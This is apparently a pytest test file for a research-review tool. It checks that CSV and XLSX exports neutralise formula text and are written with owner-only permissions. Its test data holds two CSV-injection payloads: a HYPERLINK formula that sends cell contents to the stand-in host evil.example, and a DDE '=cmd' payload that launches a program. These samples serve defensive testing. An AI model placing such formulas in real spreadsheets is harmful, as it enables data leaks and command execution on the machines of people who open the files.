"""Every CSV/XLSX metareview writes neutralises formula text and is owner-only (issue 8, leaks);
folders it creates are 0700 unless METAREVIEW_SHARED_FILES=1."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import openpyxl
import pytest

from metareview.extraction.templates import write_templates
from metareview.filemodes import make_dir
from metareview.interop.decisions import export_decisions
from metareview.records.model import Record
from metareview.review import Review
from metareview.screening.prisma import PrismaCounts
from metareview.store import records_repo

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def review(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Review:
    monkeypatch.delenv("METAREVIEW_SHARED_FILES", raising=False)
    rv = Review.init(tmp_path / "ws" / "rv")
    with rv.session() as s:
        search = records_repo.add_search(
            s, database="MEDLINE", file_name="x", file_hash="h", file_format="ris"
        )
        records_repo.insert_records(s, search.id, 0, [Record(title=HOSTILE, year=2020, doi="10.1/a")])
        records_repo.finish_search(s, search, 1)
    return rv


def test_review_workspace_folders_are_private(review: Review, tmp_path: Path) -> None:
    assert _mode(tmp_path / "ws") == 0o700
    assert _mode(tmp_path / "ws" / "rv") == 0o700
    assert _mode(tmp_path / "ws" / "rv" / "protocol.toml") == 0o600
    review.close()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_decision_export_neutralises_and_is_private(review: Review, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"decisions.{fmt}"
    export_decisions(review, out, reviewer="ana")
    review.close()
    assert _mode(out) == 0o600
    if fmt == "csv":
        with out.open(newline="", encoding="utf-8") as fh:
            titles = [row["title"] for row in csv.DictReader(fh)]
    else:
        sheet = openpyxl.load_workbook(out).active
        head = [c.value for c in sheet[1]]
        col = head.index("title")
        titles = [row[col].value for row in sheet.iter_rows(min_row=2)]
        assert all(row[col].data_type != "f" for row in sheet.iter_rows(min_row=2))
    assert titles == ["'" + HOSTILE]


def test_extraction_templates_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("METAREVIEW_SHARED_FILES", raising=False)
    files = write_templates(tmp_path / "new" / "forms", prefill=[("r1", HOSTILE)])
    assert _mode(tmp_path / "new") == 0o700 and _mode(tmp_path / "new" / "forms") == 0o700
    assert files and all(_mode(f) == 0o600 for f in files)
    reports = next(f for f in files if f.name == "reports.csv")
    assert "'" + HOSTILE in reports.read_text(encoding="utf-8").replace('""', '"')
    book = write_templates(tmp_path / "t.xlsx", prefill=[("r1", HOSTILE)])[0]
    assert _mode(book) == 0o600
    cells = [c for row in openpyxl.load_workbook(book)["reports"].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)


def test_prisma_csv_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("METAREVIEW_SHARED_FILES", raising=False)
    out = PrismaCounts(database_results={"=cmd|' /C calc'!A0": 3}).to_csv(tmp_path / "prisma.csv")
    assert _mode(out) == 0o600
    assert "=cmd" not in out.read_text().replace("'=cmd", "")


def test_shared_files_follow_the_umask(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("METAREVIEW_SHARED_FILES", "1")
    import os

    old = os.umask(0o022)
    try:
        made = make_dir(tmp_path / "a" / "b")
    finally:
        os.umask(old)
    assert _mode(made) == 0o755 and _mode(tmp_path / "a") == 0o755


def test_make_dir_leaves_existing_folders_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("METAREVIEW_SHARED_FILES", raising=False)
    tmp_path.chmod(0o755)
    make_dir(tmp_path / "x")
    assert _mode(tmp_path) == 0o755 and _mode(tmp_path / "x") == 0o700
